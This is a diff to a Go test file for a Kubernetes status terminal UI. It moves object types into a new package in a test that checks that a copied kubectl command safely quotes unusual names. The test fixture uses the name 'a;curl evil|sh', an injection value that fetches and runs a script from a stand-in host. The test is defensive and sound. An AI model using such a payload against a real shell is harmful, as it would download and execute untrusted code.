@@ -7,6 +7,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/kstatus-tui/kstatus-tui/internal/object"
 	"github.com/kstatus-tui/kstatus-tui/internal/status"
 )
 
@@ -163,8 +164,8 @@ func TestARecordingFollowsNothingElse(t *testing.T) {
 func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
 	p := screen(t)
 	_, b := bazaar()
-	odd := &status.Object{ID: status.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
-	b.Objects, b.Roots = []*status.Object{odd}, []status.Root{{ID: odd.ID}}
+	odd := &object.Object{ID: object.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
+	b.Objects, b.Roots = []*object.Object{odd}, []status.Root{{ID: odd.ID}}
 	p.batch(0, b)
 	n := p.m.w.nodes.At(odd.ID)
 	if got, want := p.m.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
